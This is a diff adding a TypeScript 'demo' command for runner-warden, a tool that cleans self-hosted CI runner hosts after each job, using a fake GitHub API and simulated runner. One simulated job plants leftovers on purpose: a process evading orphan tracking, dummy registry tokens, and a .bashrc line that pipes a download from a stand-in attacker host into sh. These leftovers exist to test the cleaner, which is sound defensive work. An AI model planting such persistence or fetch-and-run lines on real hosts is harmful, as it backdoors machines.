@@ -1,0 +1,223 @@
+/**
+ * `runner-warden demo`: the whole lifecycle on this machine, with the bundled runner simulator and
+ * fake GitHub API, in a temporary root that is removed afterwards. It creates a throwaway runner
+ * user (so it needs root), registers single-use runners against the fake, runs three jobs (an
+ * ordinary build; one that logs in to a registry, writes an npm token and leaves a background
+ * process; one that fails), and prints what happened, what was removed and how long the host took
+ * to be ready again.
+ */
+import { execFileSync } from 'node:child_process';
+import { chmod, chown, copyFile, mkdir, mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
+import os from 'node:os';
+import path from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { pino } from 'pino';
+import { systemClock } from '../lib/clock.js';
+import { createLogger } from '../lib/log.js';
+import { lookupUser } from '../lib/users.js';
+import { loadHostConfig } from '../policy/load.js';
+import { takeBaseline } from '../cleanup/baseline.js';
+import { startFakeGitHub } from '../sim/github/server.js';
+import { installSimulatedRunner } from '../sim/runner/install.js';
+import type { JobRecord, JournalRecord } from '../agent/journal.js';
+import { EXIT, parseOptions, type CliIO } from './io.js';
+import { printConfigError } from './run.js';
+import { wire } from './wire.js';
+
+/** The demo gives up after this long: three small jobs take a few seconds; a hang must not be silent. */
+export const DEMO_TIMEOUT_MS = 180_000;
+
+const PROJECT_ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
+
+/** The three jobs of the demo. */
+export function demoJobs(): { job: string; workflow: string; steps: { name: string; run: string }[] }[] {
+  return [
+    {
+      job: 'build',
+      workflow: 'CI',
+      steps: [
+        { name: 'Checkout', run: 'mkdir -p src && for i in $(seq 1 300); do echo "int f$i;" > src/f$i.c; done' },
+        { name: 'Build', run: 'mkdir -p out && for f in src/*.c; do cp "$f" "out/$(basename "$f" .c).o"; done; echo built $(ls out | wc -l) objects' },
+      ],
+    },
+    {
+      job: 'publish',
+      workflow: 'Release',
+      steps: [
+        {
+          name: 'Log in to the registry',
+          // What `docker login` writes (docker's own format), into $DOCKER_CONFIG, which the agent gave this job.
+          run: 'mkdir -p "${DOCKER_CONFIG:-$HOME/.docker}" && printf \'{"auths":{"registry.example.test":{"auth":"%s"}}}\' "$(printf ci:s3cr3t-registry-password | base64)" > "${DOCKER_CONFIG:-$HOME/.docker}/config.json" && echo "Login Succeeded"',
+        },
+        {
+          name: 'Set the npm token',
+          run: 'if command -v npm >/dev/null; then npm config set //registry.example.test/:_authToken=npm_demoDEMOdemoDEMOdemoDEMOdemoDEMO12 >/dev/null; else echo "//registry.example.test/:_authToken=npm_demo" >> ~/.npmrc; fi; echo npm token set',
+        },
+        {
+          name: 'Leave something behind',
+          run: [
+            // A process that escapes the runner's orphan tracking, and a dotfile in the real home.
+            'RUNNER_TRACKING_ID= setsid nohup bash -c "exec -a innocent-daemon sleep 3600" >/dev/null 2>&1 &',
+            'real_home=$(getent passwd "$(id -un)" | cut -d: -f6)',
+            'echo "curl -s https://attacker.example.test/x | sh" >> "$real_home/.bashrc"',
+            'echo "left a daemon, a dotfile line, a docker login and an npm token"',
+          ].join('\n'),
+        },
+      ],
+    },
+    {
+      job: 'test',
+      workflow: 'CI',
+      steps: [{ name: 'Unit tests', run: 'echo "running 12 tests"; echo "1 failed"; exit 1' }],
+    },
+  ];
+}
+
+/** `runner-warden demo [--jobs N] [--keep]`. */
+export async function demoCommand(args: string[], io: CliIO, env: NodeJS.ProcessEnv): Promise<number> {
+  const { opts, unknown } = parseOptions(args, { flags: ['keep'], values: ['jobs'] });
+  if (unknown.length > 0) {
+    io.stderr.write(`runner-warden demo: unknown option ${unknown.join(', ')}\n`);
+    return EXIT.usage;
+  }
+  if (process.getuid?.() !== 0) {
+    io.stderr.write('runner-warden demo: run it as root: it creates a throwaway runner user and cleans as root, like the agent.\n');
+    return EXIT.usage;
+  }
+  const jobs = demoJobs().slice(0, Math.max(1, Math.min(3, Number(opts.jobs ?? 3))));
+  const say = (s: string): void => void io.stdout.write(`${s}\n`);
+  const root = await mkdtemp(path.join(os.tmpdir(), 'runner-warden-demo-'));
+  await chmod(root, 0o755);
+  const userName = `rwdemo${process.pid % 100000}`;
+  const fake = await startFakeGitHub();
+  let created = false;
+  try {
+    // The world: a runner user, a runner installation, a state dir, policies, a token.
+    await mkdir(path.join(root, 'home'), { mode: 0o755 });
+    const home = path.join(root, 'home', userName);
+    execFileSync('useradd', ['-m', '-d', home, '-s', '/bin/bash', userName], { stdio: 'ignore' });
+    created = true;
+    const user = await lookupUser(userName);
+    if (!user) throw new Error(`useradd did not create ${userName}`);
+    await writeFile(path.join(home, '.bashrc'), '# the image\'s .bashrc\nexport PS1="\\u@\\h:\\w\\$ "\n');
+    await chown(path.join(home, '.bashrc'), user.uid, user.gid);
+    const runnerRoot = path.join(root, 'actions-runner');
+    await installSimulatedRunner(runnerRoot, { owner: { uid: user.uid, gid: user.gid } });
+    const etc = path.join(root, 'etc');
+    await mkdir(path.join(etc, 'policies'), { recursive: true, mode: 0o700 });
+    for (const f of await readdir(path.join(PROJECT_ROOT, 'policies'))) {
+      if (f.endsWith('.yaml')) await copyFile(path.join(PROJECT_ROOT, 'policies', f), path.join(etc, 'policies', f));
+    }
+    await writeFile(path.join(etc, 'token'), `${fake.defaultToken}\n`, { mode: 0o600 });
+    const configFile = path.join(etc, 'config.yaml');
+    await writeFile(
+      configFile,
+      [
+        '# Written by runner-warden demo: the fake GitHub API on loopback, the simulated runner.',
+        `github:`,
+        `  url: ${fake.origin}`,
+        `  apiUrl: ${fake.url}`,
+        `  org: octo`,
+        `  token: { file: ${path.join(etc, 'token')} }`,
+        `runner:`,
+        `  root: ${runnerRoot}`,
+        `  user: ${userName}`,
+        `  name: "demo-{seq}"`,
+        `  labels: [self-hosted, linux]`,
+        `  maxJobs: ${jobs.length}`,
+        `team: container-reuse`,
+        `policyDir: ${path.join(etc, 'policies')}`,
+        `stateDir: ${path.join(root, 'state')}`,
+        `health:`,
+        `  listen: "127.0.0.1:0"`,
+        `recycle:`,
+        `  provider: none`,
+        '',
+      ].join('\n'),
+      { mode: 0o600 },
+    );
+
+    say(`runner-warden demo`);
+    say(`  root ${root}`);
+    say(`  fake GitHub API ${fake.url}, runner simulator in ${runnerRoot}, runner user ${userName}`);
+    const logFile = path.join(root, 'agent.log');
+    const log = createLogger({ level: 'info', destination: pino.destination({ dest: logFile, sync: true }) });
+    let runtime;
+    try {
+      const config = await loadHostConfig(configFile, {});
+      runtime = await wire(config, { configFile, env, log, clock: systemClock, hostname: 'demo-host' });
+    } catch (err) {
+      if (printConfigError(err, io)) return EXIT.config;
+      throw err;
+    }
+    const { agent, slot, health } = runtime;
+    await takeBaseline(slot);
+    say(`  health endpoint http://${health?.address.host}:${health?.address.port}/status\n`);
+
+    fake.events.on('job-assigned', (j: { displayName?: string; runnerId?: number }) =>
+      say(`→ job "${j.displayName ?? '?'}" handed to runner ${j.runnerId ?? '?'}`),
+    );
+    jobs.forEach((j, i) =>
+      fake.enqueueJob({ repository: 'octo/app', workflow: j.workflow, runId: 100 + i, job: j.job, steps: j.steps }),
+    );
+    const restBefore = fake.restCalls();
+    const started = Date.now();
+    const timeout = AbortSignal.timeout(DEMO_TIMEOUT_MS);
+    const exit = await agent.run(timeout);
+    await runtime.close();
+    const records = (await runtime.journal.readAll()).records;
+    printSummary(records, say);
+    say(`\nGitHub REST calls: ${fake.restCalls() - restBefore} for ${records.filter((r) => r.type === 'job').length} jobs (one JIT configuration each)`);
+    say(`agent stopped: ${exit.reason} (exit ${exit.code}) after ${((Date.now() - started) / 1000).toFixed(1)} s`);
+    say(`leftovers on the host: ${describeLeftovers(user.uid)}`);
+    if (timeout.aborted) say('demo timed out: see the agent log');
+    if (opts.keep) say(`kept ${root} (agent log: ${logFile})`);
+    return exit.code === 0 && !timeout.aborted ? EXIT.ok : 1;
+  } finally {
+    await fake.close();
+    if (created) {
+      try {
+        execFileSync('pkill', ['-KILL', '-U', userName], { stdio: 'ignore' });
+      } catch {
+        // nothing left running: expected after a clean run
+      }
+      execFileSync('userdel', ['-f', userName], { stdio: 'ignore' });
+    }
+    if (!opts.keep) await rm(root, { recursive: true, force: true });
+  }
+}
+
+function printSummary(records: JournalRecord[], say: (s: string) => void): void {
+  let n = 0;
+  let lastEnd: number | undefined;
+  for (const r of records) {
+    if (r.type === 'event' && r.event === 'listener-started' && lastEnd !== undefined) {
+      const ms = Number(r.detail?.sinceLastJobEndMs);
+      if (Number.isFinite(ms)) say(`  host ready again: next listener started ${ms} ms after the job ended`);
+      lastEnd = undefined;
+    }
+    if (r.type !== 'job') continue;
+    n += 1;
+    const j = r as JobRecord;
+    say(`\njob ${n}: "${j.job.job ?? '?'}" of ${j.job.repository ?? '?'} (${j.job.workflow ?? '?'} run ${j.job.runId ?? '?'}) on ${j.runnerName}`);
+    say(`  result ${j.result}; listener exit ${j.listenerExitCode ?? j.listenerSignal}`);
+    const removed = j.cleanup.steps
+      .filter((s) => Object.keys(s.removed).length > 0)
+      .map((s) => `${s.name}: ${Object.entries(s.removed).map(([k, v]) => `${v.count} ${k}`).join(', ')}`);
+    say(`  removed: ${removed.length > 0 ? removed.join('; ') : 'nothing'}`);
+    const odd = j.cleanup.steps.filter((s) => s.outcome !== 'ok').map((s) => `${s.name} ${s.outcome}${s.reason ? ` (${s.reason})` : ''}`);
+    if (odd.length > 0) say(`  steps: ${odd.join('; ')}`);
+    say(`  verified ${j.cleanup.verify.clean ? 'clean' : `DIRTY: ${j.cleanup.verify.problems.join('; ')}`}; ready ${j.cleanup.readyMs} ms after the job ended`);
+    say(`  decision: ${j.decision} (${j.decisionReason})`);
+    lastEnd = Date.parse(j.endedAt);
+  }
+}
+
+function describeLeftovers(uid: number): string {
+  try {
+    const out = execFileSync('pgrep', ['-U', String(uid), '-l'], { encoding: 'utf8' }).trim();
+    return out ? `processes of the runner user still running: ${out.replace(/\n/g, ', ')}` : 'none';
+  } catch {
+    return 'no process of the runner user';
+  }
+}
